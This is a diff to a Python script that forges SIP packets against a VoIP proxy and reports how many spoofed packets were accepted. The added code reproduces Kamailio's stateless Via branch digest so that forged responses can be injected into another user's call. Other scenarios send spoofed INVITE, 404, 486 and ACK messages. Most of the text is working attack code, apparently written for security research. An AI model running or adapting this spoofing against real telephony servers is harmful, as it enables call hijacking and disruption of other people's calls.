@@ -4,6 +4,7 @@
 All packets but the phone's own have somebody else's address. Prints how many were forged."""
 
 import argparse
+import hashlib
 import os
 import socket
 import time
@@ -44,15 +45,14 @@ class Phone:
                 return text
         return b""
 
-    def answer_calls(self, forger, calls, status, reason, headers=""):
+    def answer_calls(self, forger, calls, status, reason, headers="", to_user="evil"):
         """Spoofed calls to this phone, which answers each with a tag of its own choice."""
         for call_id, to_tag in calls:
-            forger.request("INVITE", "evil", call_id=call_id)
+            forger.request("INVITE", "evil", call_id=call_id, to_user=to_user)
             text = self.wait(b"INVITE")
             if text:
                 self.send(sip.answer(text, status, reason, to_tag=to_tag, headers=headers))
-            time.sleep(0.02)
-        time.sleep(0.2)
+            time.sleep(0.05)
 
 
 def pairs(count):
@@ -79,11 +79,11 @@ def ringing(forger, options):
 
 
 def nobody(forger, options):
-    calls = pairs(30)
     phone = Phone(options.own, 5080, ["evil"])
-    phone.answer_calls(forger, calls, 404, "Not Found")
-    for call_id, to_tag in calls:
-        forger.request("ACK", f"9{call_id[:6]}", call_id=call_id, to_tag=to_tag, cseq="1 ACK")
+    phone.answer_calls(forger, pairs(6), 486, "Busy Here")
+    for number, call in enumerate(pairs(30)):
+        phone.answer_calls(forger, [call], 404, "Not Found", to_user=f"nobody{number}")
+        forger.request("ACK", "evil", call_id=call[0], to_tag=call[1], cseq="1 ACK")
 
 
 def challenge(forger, options):
@@ -110,17 +110,29 @@ def fork(forger, options):
             respond(forger, f"{stem}.{number}")
 
 
+def kamailio_digest(text):
+    """Kamailio's char_msg_val() of an INVITE: From-tag, Call-ID, URI, CSeq, the Via on top."""
+    via = sip.header(text, "Via").split()[1].partition(";")[0].rpartition(":")
+    parts = [sip.header(text, "From").partition("tag=")[2], sip.header(text, "Call-ID"),
+             text.split()[1].decode(), sip.header(text, "CSeq").split()[0], via[0], via[2],
+             sip.branch(text)]
+    return hashlib.md5("".join(parts).encode()).hexdigest()
+
+
 def stateless(forger, _options):
-    """What a server without transactions writes into Via is always the same, and the attacker
-    reads it at a phone of his own."""
+    """What a server without transactions writes into Via is a digest of the request, without a
+    secret. The rest, a hash of Call-ID and CSeq, the attacker reads at a phone of his own."""
     phone = Phone(forger.options.own, 5080, ["stateless-evil"])
-    phone.send(sip.request("INVITE", "stateless-evil", SERVER, phone.own))
-    branch = sip.branch(phone.wait(b"INVITE"))
-    print(f"# the branch is {branch}")
-    time.sleep(0.1)
-    phone.send(sip.request("INVITE", "stateless-bob", SERVER, phone.own))
+    call_id = sip.token()
+    calls = [sip.request("INVITE", user, SERVER, phone.own, call_id=call_id)
+             for user in ("stateless-evil", "stateless-bob")]
+    phone.send(calls[0])
+    seen = sip.branch(phone.wait(b"INVITE"))
+    head, digest, tail = seen.split(".")
+    print(f"# computed {'right' if digest == kamailio_digest(calls[0]) else 'wrong'}: {seen}")
+    phone.send(calls[1])
     time.sleep(0.2)
-    respond(forger, branch)
+    respond(forger, f"{head}.{kamailio_digest(calls[1])}.{tail}")
 
 
 def respond(forger, branch):
